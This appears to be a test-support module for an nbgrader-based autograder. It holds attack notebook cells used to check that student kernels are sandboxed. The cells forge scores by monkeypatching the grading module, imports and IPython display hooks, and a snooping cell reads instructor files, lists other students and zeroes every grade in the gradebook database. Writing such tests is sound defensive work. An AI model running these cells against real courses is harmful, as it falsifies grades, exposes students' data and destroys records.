"""Hostile notebooks for the nbgrader trust tests: each is the untouched release with one
attack cell on top (or, for the hidden-variant attack, one answer cell rewritten).

Every attack prints what it achieved as one ``ATAQUE{json}`` line, so the tests can read
from the autograded notebook what the student's kernel managed to see; the tests never
rely on that report alone (the gradebook and the course files are checked too).
"""

from __future__ import annotations

import json

#: Replace the kit's grade function every way a notebook can: the module attribute, the
#: module in ``sys.modules``, every later import (``builtins.__import__``), the summary the
#: grade cells' score comes from, and an input transformer that turns any grade cell into
#: the bare number of its points (IPython runs it on every later cell's source).
FORGE_MODULES = r'''
import builtins, sys, types
import grader.nb as _nb
import grader.scoring as _runner
from grader.tasks import TASK_BY_ID

def _full(task_id, namespace=None, *args, **kwargs):
    return float(TASK_BY_ID[task_id].points)

_nb.check_task = _full
_fake = types.ModuleType("grader.nb")
_fake.check_task = _full
sys.modules["grader.nb"] = _fake
_real_import = builtins.__import__

def _import(name, globals=None, locals=None, fromlist=(), level=0):
    if name == "grader.nb":
        return _fake
    return _real_import(name, globals, locals, fromlist, level)

builtins.__import__ = _import
_runner.summarize = lambda results, lang=None: {}

def _numbers_only(lines):
    text = "".join(lines)
    for task_id, task in TASK_BY_ID.items():
        if "check_task" in text and repr(task_id) in text:
            return [f"{task.points}\n"]
    return lines

get_ipython().input_transformers_post.append(_numbers_only)
print("ATAQUE" + '{"patched": true}')
'''

#: Make the displayed value of a grade cell claim full marks: formatters for the score's
#: type and for plain numbers, and a display hook that prints the maximum.
FORGE_DISPLAY = r'''
import sys
from grader.nb import TaskScore
from grader.tasks import TASK_BY_ID

_ip = get_ipython()
_plain = _ip.display_formatter.formatters["text/plain"]
_plain.for_type(TaskScore, lambda obj, p, cycle: p.text(f"{TASK_BY_ID[obj.task].points}"))
_plain.for_type(float, lambda obj, p, cycle: p.text("15"))
_plain.for_type(int, lambda obj, p, cycle: p.text("15"))
_ip.displayhook.write_format_data = (
    lambda data, md=None: print(data.get("text/plain", "")))
sys.displayhook = lambda value: print(15)
print("ATAQUE" + '{"formatters": true}')
'''

#: Walk up from the working folder and also try the course's absolute path: read the
#: source notebook, list the other students, zero every grade in the gradebook; try the
#: network, the course secret in the environment, and a host IPC segment.
SPY = r'''
import json, os, pathlib, socket, sqlite3
_found = {"source": [], "students": [], "gradebook": [], "absolute": [], "network": None,
          "secret": [k for k in os.environ if "SECRET" in k.upper()],
          "cwd": os.getcwd()}
_here = pathlib.Path.cwd()
for _up in [_here, *_here.parents]:
    _src = _up / "source" / "practico2" / "practico2.ipynb"
    if _src.exists():
        try:
            _found["source"].append(len(_src.read_text()))
        except OSError as exc:
            _found["source"].append(type(exc).__name__)
    for _folder in ("submitted", "autograded", "feedback", "release"):
        if (_up / _folder).is_dir():
            try:
                _found["students"] += [f"{_folder}/{n}" for n in sorted(os.listdir(_up / _folder))]
            except OSError as exc:
                _found["students"].append(type(exc).__name__)
    _db = _up / "gradebook.db"
    if _db.exists():
        try:
            _con = sqlite3.connect(str(_db))
            _con.execute("UPDATE grade SET auto_score=0")
            _con.commit()
            _found["gradebook"].append("written")
        except Exception as exc:
            _found["gradebook"].append(type(exc).__name__)
for _path in ("COURSE_ROOT/source/practico2/practico2.ipynb", "COURSE_ROOT/gradebook.db",
              "COURSE_ROOT/submitted"):
    try:
        if os.path.isdir(_path):
            _found["absolute"].append(sorted(os.listdir(_path)))
        else:
            with open(_path, "rb") as fh:
                _found["absolute"].append(len(fh.read()))
    except OSError as exc:
        _found["absolute"].append(type(exc).__name__)
try:
    socket.create_connection(("127.0.0.1", 22), timeout=2).close()
    _found["network"] = "connected"
except OSError as exc:
    _found["network"] = type(exc).__name__
print("ATAQUE" + json.dumps(_found))
'''


def attack_report(nb) -> dict:
    """The ``ATAQUE{...}`` line the attack cell printed in the autograded notebook."""
    for cell in nb.cells:
        for output in cell.get("outputs", []):
            text = output.get("text", "")
            for line in str(text).splitlines():
                if line.startswith("ATAQUE"):
                    return json.loads(line[len("ATAQUE"):])
    raise AssertionError("the attack cell printed nothing: did the kernel run it?")
